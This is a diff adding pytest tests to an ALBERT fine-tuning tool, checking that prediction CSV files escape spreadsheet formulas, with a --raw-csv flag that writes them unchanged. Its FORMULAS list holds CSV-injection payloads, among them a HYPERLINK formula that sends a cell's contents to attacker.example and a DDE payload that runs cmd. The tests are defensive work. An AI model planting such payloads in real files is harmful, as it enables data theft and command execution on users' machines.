@@ -6,6 +6,7 @@ README.md, "Reliability: hostile files and set-ups", lists them.
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import os
@@ -33,10 +34,13 @@ from albert_core.downstream.tables import read_table
 from albert_core.interop import save_hf_checkpoint
 from albert_core.model import AlbertForPreTraining
 from albert_core.shards import write_random_shards
+from albert_core.tokenization import Tokenizer, TokenizerTrainConfig, train_tokenizer
 from services import cluster
+from services.cli import main as cli_main
 from services.run.config import RunConfig
 from services.run.ledger import RunLedger
 from services.train.plan import read_shard_set
+from tests.test_finetuning import tiny
 
 
 def tiny_config(**fields) -> AlbertConfig:
@@ -378,3 +382,47 @@ def test_more_classes_than_the_cap_is_one_line_naming_the_label_column(tmp_path)
         f"{path}: the label column 'label' has {MAX_CLASSES + 1} distinct values, more than the {MAX_CLASSES} classes "
         "a classifier may have (a label column of ids or texts? for numeric targets pass --regression)"
     )
+
+
+# --- 8. prediction files open safely in a spreadsheet ----------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "\tpadded"]
+
+
+@pytest.fixture(scope="module")
+def tiny_checkpoint(tmp_path_factory) -> Path:
+    out = tmp_path_factory.mktemp("checkpoint")
+    texts = (REPO / "tests" / "fixtures" / "tokenizer_corpus.txt").read_text().splitlines()
+    train_tokenizer(texts, out, TokenizerTrainConfig(vocab_size=200))
+    torch.manual_seed(0)
+    save_model(out, AlbertForPreTraining(tiny(Tokenizer.load(out).vocab_size)))
+    return out
+
+
+def formula_run(tmp_path: Path, checkpoint: Path, *extra: str) -> list[list[str]]:
+    """Fine-tune 2 steps on a table whose labels, ids and column names are spreadsheet formulas (and "-1", a
+    number); the dev predictions file's rows."""
+    labels = [*FORMULAS, "-1"]
+    rows = [{"=id": f"+row{i}", "@label": labels[i % len(labels)], "text": f"sentence number {i}"} for i in range(40)]
+    train = tmp_path / "train.jsonl"
+    train.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    out = tmp_path / "out"
+    argv = ["finetune", "--task", "custom", "--train", str(train), "--id-column", "=id", "--label-column", "@label"]
+    argv += ["--checkpoint", str(checkpoint), "--output", str(out), "--max-steps", "2", "--dev-fraction", "0.5"]
+    assert cli_main([*argv, "--max-seq-length", "16", "--batch-size", "4", *extra]) == 0
+    with open(out / "seed_12345" / "predictions_dev.csv", newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+def test_prediction_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path, tiny_checkpoint):
+    header, *rows = formula_run(tmp_path, tiny_checkpoint)
+    assert header == ["'=id", "'@label"]
+    assert all(ident.startswith("'+row") for ident, _ in rows)
+    assert {label for _, label in rows} <= {"'" + f for f in FORMULAS} | {"-1"}  # a number stays a number
+
+
+def test_raw_csv_writes_prediction_cells_as_given(tmp_path, tiny_checkpoint):
+    header, *rows = formula_run(tmp_path, tiny_checkpoint, "--raw-csv")
+    assert header == ["=id", "@label"]
+    assert all(ident.startswith("+row") for ident, _ in rows)
+    assert {label for _, label in rows} <= {*FORMULAS, "-1"}
